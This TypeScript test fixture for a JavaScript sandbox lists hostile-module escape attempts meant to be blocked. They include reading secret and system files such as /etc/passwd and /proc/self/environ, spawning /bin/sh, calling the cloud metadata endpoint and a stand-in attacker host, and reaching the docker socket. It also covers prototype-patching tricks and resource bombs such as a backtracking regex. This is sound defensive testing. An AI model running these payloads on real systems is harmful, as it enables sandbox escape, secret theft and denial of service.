/**
 * What a hostile module tries. Each attempt is a list of ways to one end, as JavaScript that runs in
 * an async function with `world` and `way(name, work)`; a way that gets something returns it.
 */
import type { Bounds } from "../../src/sandbox/bounds.ts";

/** What the attempts aim at. */
export interface World {
  /** A file that may not be read, and what is in it. */
  readonly secretPath: string;
  /** A folder that may be read, with `note.txt` that says `allowed`. */
  readonly folder: string;
  /** `host:port` of a server that may be reached. */
  readonly allowed: string;
  /** `host:port` of one that may not. */
  readonly forbidden: string;
}

/** How each way of an attempt is to end. */
export interface Attempt {
  readonly body: string;
  /** Instead of a refusal: ways that give nothing, as text. */
  readonly harmless?: readonly string[];
}

const IMPORTS = (specifier: string) => `
  const s = ${specifier};
  await way("import", () => import(s));
  await way("as text", () => import(s, { with: { type: "text" } }));
  await way("as bytes", () => import(s, { with: { type: "bytes" } }));
  await way("as json", () => import(s, { with: { type: "json" } }));`;

export const ATTEMPTS: Readonly<Record<string, Attempt>> = {
  "import a file": { body: IMPORTS('"file://" + world.secretPath') },
  "import a file by its path": { body: IMPORTS("world.secretPath") },
  "import a file that may be read": {
    body: IMPORTS('"file://" + world.folder + "/note.txt"'),
  },
  "import a file from code made of text": {
    body: `
      const url = "file://" + world.secretPath;
      const text = "import(" + JSON.stringify(url) + ", {with: {type: 'text'}})";
      await way("eval", () => eval(text));
      await way("indirect eval", () => (0, eval)(text));
      await way("Function", () => new Function("return " + text)());
      await way("async function", () => (async () => {}).constructor("return " + text)());
      await way("generator", () => (function* () {}).constructor("yield " + text)().next().value);
      await way("Function without a caller", () => Promise.resolve("return " + text).then(Function).then((f) => f()));
      await way("Reflect.construct", () => Reflect.construct(Function, ["return " + text])());
      await way("borrowed name", () => (0, eval)(text + "\\n//# sourceURL=" + new URL("../../src/sandbox/confine.ts", "file:///" ).href));
      await way("error's file name", () => (0, eval)(text + "\\n//# sourceURL=file:///anywhere.ts"));
      await way("timer", () => new Promise((done, fail) => {
        globalThis.got = done;
        setTimeout(fail, 200, new Error("nothing came"));
        setTimeout(text + ".then(globalThis.got)", 1);
      }));`,
  },
  "import a file from code that the runtime makes": {
    body: `
      const text = "return import(" + JSON.stringify("file://" + world.secretPath) + ", {with: {type: 'text'}})";
      const builtIn = "return import('node:worker_threads')";
      const made = [Function, (async () => {}).constructor, (function* () {}).constructor];
      for (const [i, make] of made.entries()) {
        for (const code of [text, builtIn]) {
          const name = i + (code === text ? " file" : " built in");
          const lazy = (key) => Object.defineProperty({}, key, { enumerable: true, get: make.bind(null, code) });
          await way("detail " + name, () => new CustomEvent("x", lazy("detail")).detail());
          await way("data " + name, () => new MessageEvent("x", lazy("data")).data());
          await way("reason " + name, () => new PromiseRejectionEvent("x", { promise: Promise.resolve(), ...Object.getOwnPropertyDescriptors({}), get reason() { return make(code); } }).reason());
          await way("toString " + name, () => make({ toString: () => code })());
await way("changing " + name, async () => {
            let n = 0;
            const made = make({ toString: () => n++ ? code : "" })();
            const got = await (made?.next === undefined ? made : made.next().value);
            if (got === undefined) throw new Error("nothing came");
            return got;
          });
          await way("construct " + name, () => Reflect.construct(make, [code])());
          await way("bound " + name, () => new (make.bind(null, code))()());
          await way("new target " + name, () => Reflect.construct(make, [code], class extends Function {})());
          await way("prototype " + name, () => make.prototype.constructor(code)());
          await way("parent " + name, () => Object.getPrototypeOf(make)(code)());
          await way("parameters " + name, () => make("a = " + code.slice(7), "return a")());
        }
      }
      await way("escaped", () => Function("return \\u0069mport('file://" + world.secretPath + "')")());
      await way("eval of the runtime", () => new CustomEvent("x", Object.defineProperty({}, "detail", { get: eval.bind(null, "(" + text.slice(7) + ")") })).detail);
      Array.prototype.toString = () => "";
      String.prototype.includes = () => false;
      await way("patched", () => Function(text)());`,
  },
  "import over the network": {
    body: `
      await way("forbidden", () => import("http://" + world.forbidden + "/x.js"));
      await way("allowed host", () => import("http://" + world.allowed + "/x.js"));
      const https = "https://example.com/x.js";
      await way("https", () => import(https));`,
  },
  "import made up modules": {
    body: `
      for (const s of ["data:text/javascript,export default 1", "npm:zod@4.6.7", "npm:left-pad",
        "jsr:@std/path", "ext:core/mod.js", "ext:deno_node/internal.js", "deno:runtime", "internal:x",
        "dxt-lent:dxt", "dxt-lent:zod", "../confine.ts", "about:blank"]) {
        await way(s, () => import(s));
      }
      await way("blob", () => import(URL.createObjectURL(new Blob(["export default 1"], { type: "text/javascript" }))));`,
  },
  "import dxt's own files": {
    body: `
      const here = new Error().stack.match(/file:[^\\s)]*\\/src\\//)?.[0] ?? "file:///dxt/src/";
      for (const name of ["sandbox/port.ts", "sandbox/confine.ts", "core/errors.ts", "mod.ts"]) {
        await way(name, () => import(here + name));
      }`,
  },
  "import modules of the runtime": {
    body: `
      for (const name of ["fs", "fs/promises", "net", "tls", "http", "https", "dgram", "dns", "child_process",
        "worker_threads", "vm", "module", "inspector", "process", "os", "v8", "cluster", "repl", "sqlite",
        "perf_hooks", "diagnostics_channel", "async_hooks", "wasi", "test", "path", "buffer"]) {
        await way("node:" + name, () => import("node:" + name));
        await way(name, () => import(name));
      }`,
  },
  "reach built-in modules without an import": {
    body: `
      await way("getBuiltinModule", () => process.getBuiltinModule("fs").readFileSync(world.secretPath, "utf8"));
      await way("binding", () => process.binding("fs"));
      await way("_linkedBinding", () => process._linkedBinding("fs"));
      await way("mainModule", () => process.mainModule.require("fs"));
      await way("require", () => require("node:fs"));
      await way("module", () => module.constructor._load("fs"));
      await way("createRequire", () => globalThis.createRequire(import.meta.url)("fs"));
      await way("dlopen", () => process.dlopen({ exports: {} }, "/lib/x86_64-linux-gnu/libc.so.6"));
      await way("prototype of process", () => Object.getPrototypeOf(process).getBuiltinModule("fs"));
      await way("Buffer's module", () => Buffer.constructor("return process.getBuiltinModule('fs')")().readFileSync(world.secretPath));`,
  },
  "reach the runtime's insides": {
    body: `
      await way("Deno.internal", () => Deno[Deno.internal].core);
      await way("symbols", () => Object.getOwnPropertySymbols(Deno).map((s) => Deno[s].core)[0].ops);
      await way("Deno.core", () => Deno.core.ops);
      await way("__bootstrap", () => __bootstrap.core);
      await way("prototype", () => Object.getPrototypeOf(Deno).core.ops);
      await way("nodeBootstrap", () => nodeBootstrap());
      await way("replace Deno", () => { "use strict"; Deno = 1; });
      await way("delete Deno", () => { "use strict"; return delete globalThis.Deno; });
      await way("add to Deno", () => { "use strict"; Deno.Command = 1; });`,
  },
  "read a file": {
    body: `
      const p = world.secretPath;
      await way("readTextFile", () => Deno.readTextFile(p));
      await way("readTextFileSync", () => Deno.readTextFileSync(p));
      await way("readFile", () => Deno.readFile(p));
      await way("open", () => Deno.open(p));
      await way("openSync", () => Deno.openSync(p));
      await way("URL", () => Deno.readTextFile(new URL("file://" + p)));
      await way("dots", () => Deno.readTextFile(world.folder + "/../" + p.split("/").at(-1)));
      await way("/proc/self/root", () => Deno.readTextFile("/proc/self/root" + p));
      await way("copyFile", () => Deno.copyFile(p, world.folder + "/copy"));
      await way("link", () => Deno.link(p, world.folder + "/link"));
      await way("rename", () => Deno.rename(p, world.folder + "/moved"));
      await way("fetch", () => fetch("file://" + p).then((r) => r.text()));
      await way("Request", () => fetch(new Request("file://" + p)).then((r) => r.text()));
      await way("NUL", () => Deno.readTextFile(world.folder + "/note.txt\\0/../" + p));
      await way("wasm", () => WebAssembly.compileStreaming(fetch("file://" + p)));
      await way("HttpClient", () => Deno.createHttpClient({ caCerts: [Deno.readTextFileSync(p)] }));
      await way("FsFile", () => new Deno.FsFile(0));`,
  },
  "read what the system tells": {
    body: `
      for (const p of ["/etc/passwd", "/etc/hostname", "/proc/self/environ", "/proc/self/cmdline", "/proc/self/maps", "/proc/self/fd/0", "/dev/mem"]) {
        await way(p, () => Deno.readFile(p));
      }
      await way("stat", () => Deno.stat(world.secretPath));
      await way("lstat", () => Deno.lstat(world.secretPath));
      await way("realPath", () => Deno.realPath(world.secretPath));
      await way("readLink", () => Deno.readLink("/proc/self/exe"));
      await way("readDir", () => Array.fromAsync(Deno.readDir("/")));
      await way("cwd", () => Deno.cwd());
      await way("process.cwd", () => process.cwd());
      await way("hostname", () => Deno.hostname());
      await way("networkInterfaces", () => Deno.networkInterfaces());
      await way("execPath", () => Deno.execPath());
      await way("uid", () => Deno.uid());
      await way("pid", () => Deno.pid.toFixed());`,
    // The runtime tells the working folder to everybody.
    harmless: ["/"],
  },
  "make a link that leads out": {
    body: `
      await way("symlink", () => Deno.symlink(world.secretPath, world.folder + "/made"));
      await way("symlinkSync", () => Deno.symlinkSync("/", world.folder + "/root"));
      await way("linkSync", () => Deno.linkSync(world.secretPath, world.folder + "/hard"));`,
  },
  "write a file": {
    body: `
      const p = world.secretPath + ".evil";
      await way("writeTextFile", () => Deno.writeTextFile(p, "x"));
      await way("in the folder that may be read", () => Deno.writeTextFile(world.folder + "/x", "x"));
      await way("open", () => Deno.open(p, { write: true, create: true }));
      await way("mkdir", () => Deno.mkdir(p));
      await way("remove", () => Deno.remove(world.secretPath));
      await way("truncate", () => Deno.truncate(world.secretPath));
      await way("chmod", () => Deno.chmod(world.secretPath, 0o777));
      await way("makeTempFile", () => Deno.makeTempFile());
      await way("utime", () => Deno.utime(world.folder + "/note.txt", 0, 0));
      await way("localStorage", () => localStorage.setItem("a", "b"));
      await way("caches", () => caches.open("evil"));
      await way("openKv", () => Deno.openKv(p));`,
  },
  "read the environment": {
    body: `
      await way("get", () => Deno.env.get("DXT_TEST_SECRET"));
      await way("toObject", () => Deno.env.toObject());
      await way("has", () => Deno.env.has("DXT_TEST_SECRET"));
      await way("process.env", () => process.env.DXT_TEST_SECRET);
      await way("keys", () => Object.keys(process.env));
      await way("set", () => Deno.env.set("PATH", "/evil"));
      await way("process.env set", () => { "use strict"; process.env.PATH = "/evil"; });
      await way("delete", () => Deno.env.delete("PATH"));`,
    harmless: ["undefined", "[]"],
  },
  "read the command line": {
    body: `
      await way("Deno.args", () => Deno.args);
      await way("process.argv", () => process.argv);
      await way("execArgv", () => process.execArgv.length);
      await way("mainModule", () => Deno.mainModule.length);
      await way("location", () => location.href);`,
    harmless: ["[]"],
  },
  "start a program": {
    body: `
      await way("Command", () => new Deno.Command("/bin/sh").outputSync());
      await way("run", () => Deno.run({ cmd: ["/bin/sh"] }));
      await way("spawn", () => Deno.spawn("/bin/sh"));
      await way("spawnAndWaitSync", () => Deno.spawnAndWaitSync("/bin/sh"));
      await way("kill", () => Deno.kill(1));
      await way("process.kill", () => process.kill(1));
      await way("execve", () => process.execve("/bin/sh"));`,
  },
  "call a native library": {
    body: `
      await way("dlopen", () => Deno.dlopen("libc.so.6", {}));
      await way("UnsafePointer", () => Deno.UnsafePointer.create(1n));
      await way("UnsafePointerView", () => new Deno.UnsafePointerView(null));
      await way("UnsafeCallback", () => new Deno.UnsafeCallback({ parameters: [], result: "void" }, () => {}));`,
  },
  "start a thread": {
    body: `
      const source = "data:text/javascript,postMessage(1)";
      await way("Worker", () => new Worker(source, { type: "module" }));
      await way("Worker with permissions", () => new Worker(source, { type: "module", deno: { permissions: "inherit" } }));
      await way("SharedWorker", () => new SharedWorker(source));
      await way("constructor", () => new (Object.getPrototypeOf(self).constructor)());`,
  },
  "talk to other threads": {
    body: `
      await way("BroadcastChannel", () => new BroadcastChannel("x").postMessage(1));
      await way("postMessage", () => postMessage({ value: "forged" }));
      await way("self.postMessage", () => self.postMessage({ value: "forged" }));
      await way("MessageChannel", () => new MessageChannel());
      await way("MessagePort", () => MessagePort.prototype.postMessage);
      await way("close", () => close());
      await way("locks", () => navigator.locks.query());
      await way("onmessage", () => { "use strict"; return onmessage.toString(); });`,
  },
  "listen to dxt's own port": {
    body: `
      const seen = [];
      const spy = (name, owner, key) => way(name, () => {
        "use strict";
        const old = owner[key];
        owner[key] = function (...args) { seen.push(this); return old.apply(this, args); };
        throw new Error("patched");
      });
      await way("MessageEvent", () => { "use strict"; MessageEvent.prototype.data2 = 1; });
      await way("data of events", () => { Object.defineProperty(MessageEvent.prototype, "data", { set(v) { seen.push(this); } }); });
      await way("data of objects", () => { Object.defineProperty(Object.prototype, "data", { set(v) { seen.push(this); } }); });
      await way("dispatchEvent", () => { "use strict"; EventTarget.prototype.dispatchEvent = () => {}; });
      await way("target", () => { Object.defineProperty(Event.prototype, "target", { get() { seen.push(this); } }); });
      await spy("Function.prototype.call", Function.prototype, "call");
      await spy("Function.prototype.bind", Function.prototype, "bind");
      await spy("Array.prototype.push", Array.prototype, "at");
      await spy("Promise.prototype.then", Promise.prototype, "then");
      await new Promise((done) => setTimeout(done, 600));
      await way("a port", () => {
        const port = seen.find((one) => one !== null && typeof one === "object" && "postMessage" in one);
        if (port === undefined) throw new Error("no port was seen");
        return "a port";
      });`,
  },
  "connect elsewhere": {
    body: `
      const [hostname, port] = world.forbidden.split(":");
      await way("fetch", () => fetch("http://" + world.forbidden).then((r) => r.text()));
      await way("other name", () => fetch("http://localhost:" + port).then((r) => r.text()));
      await way("other spelling", () => fetch("http://2130706433:" + port).then((r) => r.text()));
      await way("IPv6", () => fetch("http://[::ffff:127.0.0.1]:" + port).then((r) => r.text()));
      await way("connect", () => Deno.connect({ hostname, port: Number(port) }));
      await way("connectTls", () => Deno.connectTls({ hostname, port: Number(port) }));
      await way("unix socket", () => Deno.connect({ transport: "unix", path: "/var/run/docker.sock" }));
      await way("vsock", () => Deno.connect({ transport: "vsock", cid: 2, port: 1 }));
      await way("WebSocket", () => new Promise((done, fail) => {
        const socket = new WebSocket("ws://" + world.forbidden);
        socket.onopen = () => done("open");
        socket.onerror = (e) => fail(new Error(e.message || "refused"));
      }));
      await way("EventSource", () => new Promise((done, fail) => {
        const source = new EventSource("http://" + world.forbidden);
        source.onopen = () => done("open");
        source.onerror = () => { source.close(); fail(new Error("refused")); };
      }));
      await way("redirect", () => fetch("http://" + world.allowed + "/redirect").then((r) => r.text()));
      await way("proxy", () => fetch("http://" + world.allowed, { client: Deno.createHttpClient({ proxy: { url: "http://" + world.forbidden } }) }).then((r) => r.text()));
      await way("socks proxy", () => fetch("http://" + world.allowed, { client: Deno.createHttpClient({ proxy: { url: "socks5://" + world.forbidden } }) }).then((r) => r.text()));
      await way("tcp proxy", () => fetch("http://" + world.allowed, { client: Deno.createHttpClient({ proxy: { transport: "tcp", hostname, port: Number(port) } }) }).then((r) => r.text()));
      await way("unix proxy", () => fetch("http://" + world.allowed, { client: Deno.createHttpClient({ proxy: { transport: "unix", path: "/var/run/x.sock" } }) }).then((r) => r.text()));
      await way("no scheme", () => fetch("//" + world.forbidden));
      await way("user info", () => fetch("http://" + world.allowed + "@" + world.forbidden).then((r) => r.text()));
      await way("metadata", () => fetch("http://169.254.169.254/latest/meta-data/").then((r) => r.text()));`,
  },
  "ask the name server": {
    body: `
      await way("resolveDns", () => Deno.resolveDns("secret.example.com", "A"));
      await way("name server", () => Deno.resolveDns("secret.example.com", "TXT", { nameServer: { ipAddr: "127.0.0.1", port: 53 } }));
      await way("fetch", () => fetch("http://secret.attacker.example/"));
      await way("connect", () => Deno.connect({ hostname: "secret.attacker.example", port: 53 }));`,
  },
  "listen": {
    body: `
      await way("listen", () => Deno.listen({ port: 0 }));
      await way("listenTls", () => Deno.listenTls({ port: 0 }));
      await way("serve", () => Deno.serve({ port: 0 }, () => new Response()));
      await way("datagram", () => Deno.listenDatagram({ port: 0, transport: "udp" }));
      await way("upgradeWebSocket", () => Deno.upgradeWebSocket(new Request("http://x")));`,
  },
  "end the process": {
    body: `
      await way("Deno.exit", () => Deno.exit(0));
      await way("process.exit", () => process.exit(0));
      await way("reallyExit", () => process.reallyExit(0));
      await way("abort", () => process.abort());
      await way("exitCode", () => { "use strict"; process.exitCode = 7; });
      await way("Deno.exitCode", () => { "use strict"; Deno.exitCode = 7; });
      await way("signal", () => Deno.addSignalListener("SIGINT", () => {}));`,
  },
  "change the process": {
    body: `
      await way("chdir", () => Deno.chdir("/"));
      await way("process.chdir", () => process.chdir("/"));
      await way("umask", () => Deno.umask(0));
      await way("setuid", () => process.setuid(0));
      await way("title", () => { "use strict"; process.title = "x"; });
      await way("emit", () => process.emit("exit").constructor.constructor("return this.process.exit")()(0));`,
  },
  "write to dxt's output and read its input": {
    body: `
      await way("stdout", () => Deno.stdout.writeSync(new TextEncoder().encode("FORGED")));
      await way("stderr", () => Deno.stderr.writeSync(new TextEncoder().encode("FORGED")));
      await way("process.stdout", () => process.stdout.write("FORGED"));
      await way("_rawDebug", () => process._rawDebug("FORGED"));
      await way("console", () => { console.log("FORGED"); throw new Error("said to dxt"); });
      await way("console of the prototype", () => Object.getPrototypeOf(console).log("FORGED"));
      await way("alert", () => alert("FORGED"));
      await way("prompt", () => prompt("FORGED"));
      await way("stdin", () => Deno.stdin.read(new Uint8Array(1)));
      await way("reportError", () => reportError(new Error("FORGED")));
      await way("warning", () => { process.emitWarning("FORGED"); throw new Error("nobody hears it"); });
      await new Promise((done) => setTimeout(done, 50));`,
  },
  "use the process's streams by their numbers": {
    body: `
      const [hostname, port] = world.allowed.split(":");
      const open = () => Deno.connect({ hostname, port: Number(port) });
      const forged = new TextEncoder().encode("FORGED");
      const use = async (made) => {
        if (made.write !== undefined) await made.write(forged);
        made.writeSync?.(forged);
        made.truncateSync?.(0);
      };
      const key = Symbol.for("Deno.internal.FsFile");
      const conn = await open();
      const file = await Deno.open(world.folder + "/note.txt");
      const client = Deno.createHttpClient({});
      class OfFile extends Deno.FsFile {}
      for (const id of [0, 1, 2]) {
        await way("socket " + id, () => use(new conn.constructor(id, {}, {})));
        await way("socket's parent " + id, () => use(new (Object.getPrototypeOf(Object.getPrototypeOf(conn)).constructor)(id, {}, {})));
        await way("parent of the socket's class " + id, () => use(new (Object.getPrototypeOf(conn.constructor))(id, {}, {})));
        await way("another socket " + id, async () => use(new ((await open()).constructor)(id, {}, {})));
        await way("borrowed " + id, () => use(Reflect.construct(conn.constructor, [id, {}, {}], Object)));
        await way("socket with an id of one's own " + id, () => {
          const symbols = Object.getOwnPropertySymbols(conn);
          return use(Object.create(conn, Object.fromEntries(symbols.map((symbol) => [symbol, { value: id }]))));
        });
        await way("file " + id, () => use(new Deno.FsFile(id, key)));
        await way("file's own class " + id, () => use(new file.constructor(id, key)));
        await way("class of a file's class " + id, () => use(new OfFile(id, key)));
        await way("file of every symbol " + id, () => {
          for (const symbol of [...Object.getOwnPropertySymbols(file), ...Object.getOwnPropertySymbols(Object.getPrototypeOf(file))]) {
            use(new Deno.FsFile(id, symbol));
          }
        });
        await way("client " + id, () => new client.constructor(id).close());
        await way("exposed client " + id, () => new Deno.HttpClient(id).close());
        const backed = (stream) => {
          const symbol = Object.getOwnPropertySymbols(stream).find((one) => one.description === "[[resourceBacking]]");
          stream[symbol] = { rid: id, autoClose: false };
          return stream;
        };
        await way("body " + id, () => fetch("http://" + world.allowed + "/echo", { method: "POST", body: backed(conn.readable) }).then((r) => r.text()));
        await way("response " + id, () => new Response(backed(file.readable)).text().then(() => { throw new Error("it is the file's"); }));
        await way("pipe " + id, async () => {
          await new Blob(["FORGED"]).stream().pipeTo(backed((await open()).writable), { preventClose: true });
          throw new Error("it went to the server");
        });
      }
      for (const path of ["/dev/stdout", "/dev/stderr", "/dev/fd/1", "/proc/self/fd/1", "/proc/self/fd/2", "/proc/thread-self/fd/1", "/dev/tty"]) {
        await way(path, async () => use(await Deno.open(path, { write: true })));
        await way("text to " + path, () => Deno.writeTextFile(path, "FORGED"));
      }
      for (const path of ["/dev/stdin", "/dev/fd/0", "/proc/self/fd/0"]) {
        await way(path, () => Deno.readTextFile(path));
      }`,
  },
  "construct every class that can be reached with the numbers of the process's streams": {
    body: `
      const [hostname, port] = world.allowed.split(":");
      const forged = new TextEncoder().encode("FORGED");
      const response = await fetch("http://" + world.allowed);
      const roots = [globalThis, Deno, process, await Deno.connect({ hostname, port: Number(port) }),
        await Deno.open(world.folder + "/note.txt"), Deno.createHttpClient({}), response, response.body,
        await Deno.stat(world.folder), Deno.permissions.querySync({ name: "net" }), new Blob([]).stream(),
        new CompressionStream("gzip"), new WebSocket("ws://" + world.allowed), performance, crypto];
      const seen = new Set();
      const symbols = new Set([Symbol.for("Deno.internal.FsFile")]);
      const classes = new Set();
      const waiting = roots.slice();
      while (waiting.length > 0) {
        const one = waiting.pop();
        if (one === null || (typeof one !== "object" && typeof one !== "function") || seen.has(one)) continue;
        seen.add(one);
        if (typeof one === "function") classes.add(one);
        waiting.push(Object.getPrototypeOf(one));
        for (const key of Reflect.ownKeys(one)) {
          if (typeof key === "symbol") symbols.add(key);
          try {
            const value = one[key];
            if (value instanceof Promise) value.catch(() => {});
            waiting.push(value);
          } catch {}
        }
      }
      // Some of these wait, or end what others need.
      const spared = /^(set|queue|clear|close|eval$|Function$|fetch$|reload|abort|terminate|WebSocket|EventSource)/;
      let made = 0;
      for (const make of classes) {
        if (!/^[A-Z]/.test(make.name) || spared.test(make.name)) continue;
        for (const id of [1, 2]) {
          for (const more of [[], [{}, {}], ...[...symbols].map((symbol) => [symbol])]) {
            try {
              const one = new make(id, ...more);
              made++;
              for (const key of ["closed", "ready", "finished", "loaded"]) {
                if (one[key] instanceof Promise) one[key].catch(() => {});
              }
              Promise.resolve(one.write?.(forged)).catch(() => {});
              one.writeSync?.(forged);
              one.truncateSync?.(0);
            } catch {}
          }
        }
      }
      await new Promise((done) => setTimeout(done, 100));
      await way("nothing of it", () => { throw new Error(classes.size + " classes, " + made + " made"); });`,
  },
  "ask for permissions": {
    body: `
      await way("request", () => Deno.permissions.request({ name: "read" }));
      await way("requestSync", () => Deno.permissions.requestSync({ name: "net" }));
      await way("revoke", () => Deno.permissions.revoke({ name: "read" }));
      await way("Permissions", () => new Deno.Permissions());`,
  },
  "fool the hooks with patched prototypes": {
    body: `
      const target = "file://" + world.secretPath;
      const yes = () => true;
      String.prototype.startsWith = yes; String.prototype.includes = yes; String.prototype.endsWith = yes;
      RegExp.prototype.test = yes; RegExp.prototype.exec = () => [""];
      Map.prototype.get = () => ({ source: "", kind: "javascript", imports: {} }); Map.prototype.has = yes;
      Set.prototype.has = yes; Array.prototype.includes = yes; Array.prototype.some = yes;
      Reflect.apply = yes; Object.hasOwn = yes; Object.prototype.hasOwnProperty = yes;
      globalThis.URL = class { href = target; toString() { return target; } };
      await way("methods", () => import(target, { with: { type: "text" } }));
      await way("object as specifier", () => { let n = 0; return import({ toString: () => n++ ? target : "./nothing.js" }, { with: { type: "text" } }); });
      await way("toPrimitive", () => import({ [Symbol.toPrimitive]: () => target }, { with: { type: "text" } }));
      await way("__proto__ as specifier", () => import("__proto__"));
      await way("constructor as specifier", () => import("constructor"));
      await way("toString as specifier", () => import("toString"));
      await way("pollution", () => { "use strict"; Object.prototype[target] = target; });
      await way("attributes", () => import(target, { get with() { return { type: "text" }; } }));`,
  },
  "look at dxt through the stack": {
    body: `
      await way("call sites", () => {
        const kept = [];
        Error.prepareStackTrace = (_, sites) => { for (const site of sites) kept.push(site.getThis?.(), site.getFunction?.()); return ""; };
        new Error().stack;
        const found = kept.filter((one) => one !== undefined && one !== null && one !== globalThis);
        if (found.length === 0) throw new Error("nothing to see");
        return found.map(String).join();
      });
      await way("caller", () => (function f() { return f.caller.toString(); })());
      await way("arguments", () => (function f() { return f.arguments.callee.caller.toString(); })());
      await way("lent", () => globalThis[Symbol.for("dxt.lent")].dxt);`,
  },
};

/** Modules that are refused before they run. */
export const REFUSED_MODULES: Readonly<Record<string, string>> = {
  "a static import of a file": 'import x from "file:///etc/passwd"; export default x;',
  "a re-export of a file": 'export { default } from "file:///etc/passwd";',
  "a static import of a module of the runtime": 'import * as x from "node:fs"; export default x;',
  "a static import of an npm package": 'import x from "npm:left-pad"; export default x;',
  "a static import of a data: module": 'import x from "data:text/javascript,1"; export default x;',
  "a module that is nested too deep": `export default ${"(".repeat(9999)}1${
    ")".repeat(9999)
  } as never`,
};

interface Bomb {
  readonly source: string;
  readonly bound: keyof Bounds;
  readonly bounds: Partial<Bounds>;
}

/** What takes more than it may; each in a process of its own. */
export const BOMBS: Readonly<Record<string, Bomb>> = {
  "an endless loop": {
    source: "export default () => { for (;;); }",
    bound: "silentMs",
    bounds: { silentMs: 1500 },
  },
  "an endless loop while it is imported": {
    source: "for (;;); export default 1;",
    bound: "silentMs",
    bounds: { silentMs: 1500 },
  },
  "microtasks without an end": {
    source: "export default async () => { for (;;) await null; }",
    bound: "silentMs",
    bounds: { silentMs: 1500 },
  },
  "a regular expression that never ends": {
    source: 'export default () => /^(a+)+$/.test("a".repeat(50) + "b");',
    bound: "silentMs",
    bounds: { silentMs: 1500 },
  },
  "waiting on memory": {
    source: "export default () => Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0);",
    bound: "silentMs",
    bounds: { silentMs: 1500 },
  },
  "objects without an end": {
    source: "export default () => { const a = []; for (;;) a.push({ x: [1] }); }",
    bound: "heapMiB",
    bounds: { heapMiB: 64 },
  },
  "objects without an end while it is imported": {
    source: "const a = []; for (;;) a.push({ x: [1] }); export default 1;",
    bound: "heapMiB",
    bounds: { heapMiB: 64 },
  },
  "array buffers without an end": {
    source: `export default async () => {
      const a = []; for (;;) { a.push(new Uint8Array(1e6).fill(1)); if (a.length % 9 === 0) await new Promise((f) => setTimeout(f)); } }`,
    bound: "growthBytes",
    bounds: { growthBytes: 300e6 },
  },
  "WebAssembly memory without an end": {
    source: `export default async () => {
      const a = []; for (;;) { const m = new WebAssembly.Memory({ initial: 100 }); new Uint8Array(m.buffer).fill(1); a.push(m); await new Promise((f) => setTimeout(f)); } }`,
    bound: "growthBytes",
    bounds: { growthBytes: 300e6 },
  },
  "a huge message": {
    source: 'export default (_, post) => { post("x".repeat(30e6)); return new Promise(() => {}); }',
    bound: "messageBytes",
    bounds: {},
  },
  "a huge message of one text many times": {
    source:
      'export default (_, post) => { const s = "x".repeat(1e6); post(Array(40).fill(s)); return new Promise(() => {}); }',
    bound: "messageBytes",
    bounds: {},
  },
  "a flood of messages": {
    source:
      "export default (_, post) => { for (let i = 0; i < 100_000; i++) post(i); return new Promise(() => {}); }",
    bound: "messages",
    bounds: {},
  },
};
